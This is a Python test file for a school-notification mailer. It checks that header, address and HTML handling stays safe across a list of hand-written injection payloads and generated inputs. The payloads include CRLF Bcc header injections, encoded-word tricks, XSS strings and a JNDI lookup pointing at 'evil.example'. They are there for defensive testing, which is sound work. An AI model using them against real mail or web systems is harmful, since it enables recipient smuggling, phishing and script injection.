"""Header safety: hand-written injection payloads and generated names never add a
header, a recipient, or an unescaped tag, whatever school name or person's name we get."""

from __future__ import annotations

import html.parser
import re
from datetime import UTC, datetime
from email import policy
from email.header import decode_header, make_header
from email.message import EmailMessage
from email.parser import BytesParser
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from notifications.errors import InvalidAddress, UnsafeHeader
from notifications.headers import (
    MAX_TEXT_LENGTH,
    check_address,
    clean_text,
    envelope_headers,
    has_forbidden,
    message_id,
    verify_letter,
)
from notifications.letters import STORED_HEADERS, address_letter, compose
from notifications.render import Renderer
from notifications.values import Recipient, Reminder, Rung

NOW = datetime(2022, 8, 22, 6, 0, tzinfo=UTC)

#: Hand-written payloads for names, titles and school names (text fields).
TEXT_PAYLOADS: list[str] = [
    "Школа\r\nBcc: evil@example.com",
    "Школа\nBcc: evil@example.com",
    "Школа\rBcc: evil@example.com",
    "Школа\r\n\r\n<html>body takeover</html>",
    "Школа\u2028Bcc: evil@example.com",
    "Школа\u2029Bcc: evil@example.com",
    "Школа\u0085Bcc: evil@example.com",
    "Школа\x00Bcc: evil@example.com",
    "Школа\x0bBcc: evil@example.com",
    "Школа\x0cBcc: evil@example.com",
    "Школа\x1cBcc: evil@example.com",
    "Школа\x1dBcc: evil@example.com",
    "Школа\x1eBcc: evil@example.com",
    "Школа\x7fBcc: evil@example.com",
    "Школа\tBcc: evil@example.com",
    "Школа\r\n Bcc: evil@example.com",
    "Школа\r\n\tBcc: evil@example.com",
    "=?utf-8?q?=0D=0ABcc:_evil@example.com?=",
    "=?utf-8?q?x=0ABcc:evil@example.com?=",
    "=?UTF-8?Q?x=0D=0ATo:evil@example.com?=",
    "=?utf-8?b?DQpCY2M6IGV2aWxAZXhhbXBsZS5jb20=?=",
    "=?utf-8?B?Cg==?=Bcc: evil@example.com",
    "=?iso-8859-1?q?=0A?=Cc: evil@example.com",
    "=?utf-8?q?=3D=3Futf-8=3Fq=3F=0A=3F=3D?=",
    "=?utf-8?q?=00?=",
    "=?utf-8?q?=E2=80=A8Bcc:evil@example.com?=",
    "=?x?q?\r\nBcc: evil@example.com?=",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">Школа</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--",
    "]]><script>",
    "{{ 7*7 }} {% raw %}",
    "${jndi:ldap://evil.example/a}",
    "Школа\u202eанаволос",
    "Школа\u200bBcc\u200b: evil@example.com",
    "Школа\ufeffBcc: evil@example.com",
    "\ud7ff\ue000\uf8ff приватные",
    "Шк\u0301ола № 1 «Точка роста»",
    "evil@example.com",
    '"Школа" <evil@example.com>',
    "Школа <evil@example.com>, other@example.com",
    "Школа, evil@example.com",
    "Школа; evil@example.com",
    "Школа: evil@example.com;",
    "Школа (comment) evil@example.com",
    "Школа\\\r\nBcc: evil@example.com",
    'Школа"\r\nBcc: evil@example.com',
    "А" * 1000,
    "А" * 77 + "\r\nBcc: evil@example.com",
    " " * 50,
    "",
    "\r\n",
    "МБОУ «СОШ № 1» г.\u00a0Шуя",
    "Subject: fake",
    "\r\nSubject: fake",
    "Content-Type: text/html\r\n\r\n<script>",
    "boundary\r\n--===============\r\nContent-Type: text/html",
    "Школа\r\nContent-Transfer-Encoding: base64",
]

#: Addresses that must be refused (each would add a recipient or a header if trusted).
BAD_ADDRESSES: list[str] = [
    "school@example.org\r\nBcc: evil@example.com",
    "school@example.org\nBcc: evil@example.com",
    "school@example.org\rBcc: evil@example.com",
    "school@example.org\u2028",
    "school@example.org\u0085",
    "school@example.org\x00",
    "school@example.org, evil@example.com",
    "school@example.org;evil@example.com",
    "Школа <school@example.org>",
    "<school@example.org>",
    "school@example.org>",
    '"evil@example.com"@example.org',
    "school@example.org (evil@example.com)",
    "school@@example.org",
    "school@",
    "@example.org",
    "school",
    "school@localhost",
    "school@127.0.0.1",
    "school@[127.0.0.1]",
    "=?utf-8?q?evil=0A?=@example.org",
    "school@=?utf-8?q?x?=.org",
    "school..name@example.org",
    ".school@example.org",
    "школа@example.org",
    "school@-example.org",
    "school@example..org",
    "school@ex ample.org",
    "a" * 65 + "@example.org",
    "a@" + "b" * 64 + ".org",
    "",
    "   ",
]

ALLOWED_TAGS = {
    "html",
    "head",
    "meta",
    "title",
    "body",
    "div",  # the page's one column (max-width, for phones)
    "p",
    "strong",
    "em",
    "ul",
    "ol",
    "li",
    "br",
    "h3",
    "hr",
    "a",
    "table",
    "tr",
    "td",
}


class _Tags(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attrs: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attrs.update(name for name, _ in attrs)


def _reminder(text: str, *, name: str = "", cc_name: str = "") -> Reminder:
    return Reminder(
        key="k",
        send_on=NOW.date(),
        recipient=Recipient(email="school@example.org", name=name),
        cc=(Recipient(email="coordinator@example.org", name=cc_name),),
        rung=Rung.OVERDUE,
        days=3,
        deadline=NOW.date().replace(day=19),
        subject_kind="center_stage",
        title=text or "Этап",
        roadmap_title=text or "Дорожная карта",
        measure_number=8,
        center_code=text[:20] or None,
        center_name=text or None,
        municipality=text or None,
        evidence=(text,) if text else (),
        period="2022",
        reply_to="coordinator@example.org",
    )


def _check_letter(raw: bytes) -> EmailMessage:
    """The letter has exactly our headers and recipients; the HTML only our tags."""
    full = envelope_headers(mail_from="roadmap@example.org", key="k", date_header="x") + raw
    msg = BytesParser(policy=policy.default).parsebytes(full)
    assert isinstance(msg, EmailMessage)
    names = [name.lower() for name in msg.keys()]
    allowed = {h.lower() for h in (*STORED_HEADERS, "From", "Date", "Message-ID")}
    assert set(names) <= allowed, names
    assert len(names) == len(set(names)), names
    assert "bcc" not in names
    assert [a.addr_spec for a in msg["To"].addresses] == ["school@example.org"]
    assert [a.addr_spec for a in msg["Cc"].addresses] == ["coordinator@example.org"]
    assert [a.addr_spec for a in msg["Reply-To"].addresses] == ["coordinator@example.org"]
    for field in ("To", "Cc", "Subject"):
        assert not has_forbidden(str(msg[field])), (field, str(msg[field]))
    assert "=?" not in str(msg["Subject"])
    html_part = msg.get_body(preferencelist=("html",))
    assert html_part is not None
    parser = _Tags()
    parser.feed(str(html_part.get_content()))
    assert parser.tags <= ALLOWED_TAGS, parser.tags - ALLOWED_TAGS
    # name and content: the viewport meta (a phone lays the letter out at its own width).
    assert parser.attrs <= {"lang", "charset", "style", "href", "name", "content"}
    kinds = [part.get_content_type() for part in msg.walk()]
    assert kinds == [
        "multipart/mixed",
        "multipart/alternative",
        "text/plain",
        "text/html",
        "text/calendar",
    ]
    return msg


@pytest.mark.parametrize("payload", TEXT_PAYLOADS, ids=range(len(TEXT_PAYLOADS)))
def test_text_payload_changes_nothing_but_text(renderer: Renderer, payload: str) -> None:
    reminder = _reminder(payload, name=payload, cc_name=payload)
    letter = renderer.render_reminders([reminder], now=NOW)
    addressing = address_letter(reminder.recipient, reminder.cc, reminder.reply_to)
    msg = _check_letter(compose(letter, addressing, key=reminder.key))
    assert "\n" not in str(msg["Subject"])
    assert "\r" not in str(msg["Subject"])


# What no reader may get out of a subject, written independently of `has_forbidden`:
# controls (CR, LF, NUL, DEL, C1), line and paragraph separators, zero-width and bidi
# format characters, and encoded-word syntax that a reader would decode a second time.
_UNSAFE_IN_SUBJECT = re.compile(r"[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\ufeff]|=\?")


@pytest.mark.parametrize("payload", TEXT_PAYLOADS, ids=range(len(TEXT_PAYLOADS)))
def test_payload_reaches_the_subject_as_text_and_defused(renderer: Renderer, payload: str) -> None:
    """Read as a strict reader reads it (RFC 2047 words decoded), the subject carries the
    payload's text on one line with nothing dangerous left: not dropped, not live."""
    reminder = _reminder(payload)
    raw = compose(
        renderer.render_reminders([reminder], now=NOW),
        address_letter(reminder.recipient, reminder.cc, reminder.reply_to),
        key=reminder.key,
    )
    header = BytesParser(policy=policy.compat32).parsebytes(raw)["Subject"]
    subject = str(make_header(decode_header(str(header))))
    assert not _UNSAFE_IN_SUBJECT.search(subject), subject
    assert subject.startswith("Просрочено на 3 дня: ")
    if "evil@example.com" in payload and len(payload) < MAX_TEXT_LENGTH // 2:
        assert "evil@example.com" in subject, subject


@pytest.mark.parametrize("address", BAD_ADDRESSES, ids=range(len(BAD_ADDRESSES)))
def test_bad_address_is_refused(address: str) -> None:
    with pytest.raises(InvalidAddress) as refused:
        check_address(address)
    assert refused.value.address == address
    assert str(refused.value).startswith("Недопустимое значение заголовка «To»")


def test_good_addresses() -> None:
    assert check_address(" School.1+tag@Example.ORG ") == "School.1+tag@example.org"
    assert check_address("director@школа.рф") == "director@" + "школа.рф".encode("idna").decode()
    assert check_address("o'brien@example.co.uk") == "o'brien@example.co.uk"


def test_clean_text() -> None:
    assert clean_text("Школа\r\nBcc: x@y.z") == "Школа Bcc: x@y.z"
    assert clean_text("=?utf-8?q?a=0Ab?=") == "a b"
    assert clean_text("=?utf-8?q?=3D=3Futf-8=3Fq=3Fx=3F=3D?=") == "x"
    assert "=?" not in clean_text("=?bogus?x?y?=")
    assert clean_text("a\u202eb\u200bc") == "a b c"
    assert clean_text("Я" * 300).endswith("…")
    assert len(clean_text("Я" * 300)) == 200


def test_verify_letter_refuses_smuggled_header() -> None:
    raw = b"To: a@example.org\r\nSubject: x\r\nBcc: evil@example.com\r\n\r\nbody"
    with pytest.raises(UnsafeHeader, match="лишний заголовок"):
        verify_letter(raw, allowed=STORED_HEADERS, to=["a@example.org"], cc=[])
    raw = b"To: a@example.org, evil@example.com\r\nSubject: x\r\n\r\nbody"
    with pytest.raises(UnsafeHeader, match="получатели"):
        verify_letter(raw, allowed=STORED_HEADERS, to=["a@example.org"], cc=[])
    raw = b"To: a@example.org\r\nSubject: x\nBcc: evil@example.com\r\n\r\nbody"
    with pytest.raises(UnsafeHeader):
        verify_letter(raw, allowed=STORED_HEADERS, to=["a@example.org"], cc=[])


def test_message_id_is_stable_and_safe() -> None:
    first = message_id("digest:2022-08-22:abc:1", "example.org")
    assert first == message_id("digest:2022-08-22:abc:1", "example.org")
    assert first != message_id("digest:2022-08-22:abc:2", "example.org")
    assert first.startswith("<")
    assert first.endswith(".tochka@example.org>")
    assert message_id("k\r\nBcc: x", "example.org").isascii()


def test_injection_through_smtp_adds_no_recipient(smtp_server: Any, renderer: Renderer) -> None:
    from notifications.transport import SmtpSettings, SmtpTransport, TlsMode

    transport = SmtpTransport(
        SmtpSettings(
            host=smtp_server.host,
            port=smtp_server.port,
            tls=TlsMode.NONE,
            mail_from="roadmap@example.org",
        )
    )
    session = transport.open()
    try:
        for index, payload in enumerate(TEXT_PAYLOADS):
            reminder = _reminder(payload, name=payload, cc_name=payload)
            addressing = address_letter(reminder.recipient, reminder.cc, reminder.reply_to)
            letter = renderer.render_reminders([reminder], now=NOW)
            raw = compose(letter, addressing, key=reminder.key)
            key = f"k{index}"
            data = envelope_headers(mail_from=transport.mail_from, key=key, date_header="x") + raw
            session.send(
                mail_from=transport.mail_from,
                recipients=addressing.envelope,
                message=data,
                message_id=message_id(key, "example.org"),
            )
    finally:
        session.close()
    received = smtp_server.handler.snapshot()
    assert len(received) == len(TEXT_PAYLOADS)
    for got in received:
        assert got.rcpt_tos == ["school@example.org", "coordinator@example.org"]
        head = got.data.split(b"\r\n\r\n", 1)[0].decode("ascii")
        # A payload may survive as folded display-name text, never as a header line.
        starts = {line.split(":", 1)[0].lower() for line in head.split("\r\n") if line[:1] != " "}
        assert starts <= {
            "from",
            "date",
            "message-id",
            "to",
            "cc",
            "reply-to",
            "subject",
            "auto-submitted",
            "mime-version",
            "content-type",
        }
        msg = _check_letter(got.data.split(b"\r\n", 3)[3])
        assert msg["Bcc"] is None


names = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), min_size=0, max_size=120)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=names, title=names)
def test_generated_names_never_break_the_letter(name: str, title: str) -> None:
    renderer = _RENDERER
    reminder = _reminder(title, name=name, cc_name=title)
    letter = renderer.render_reminders([reminder], now=NOW)
    addressing = address_letter(reminder.recipient, reminder.cc, reminder.reply_to)
    _check_letter(compose(letter, addressing, key=reminder.key))


@settings(max_examples=300, deadline=None)
@given(address=st.text(max_size=80) | st.emails().map(lambda a: a + "\r\nBcc: e@example.com"))
def test_generated_addresses_are_refused_or_exactly_one(address: str) -> None:
    try:
        checked = check_address(address)
    except InvalidAddress:
        return
    msg = EmailMessage(policy=policy.SMTP)
    msg["To"] = checked
    parsed = BytesParser(policy=policy.default).parsebytes(msg.as_bytes())
    assert [a.addr_spec for a in parsed["To"].addresses] == [checked]


_RENDERER = Renderer()
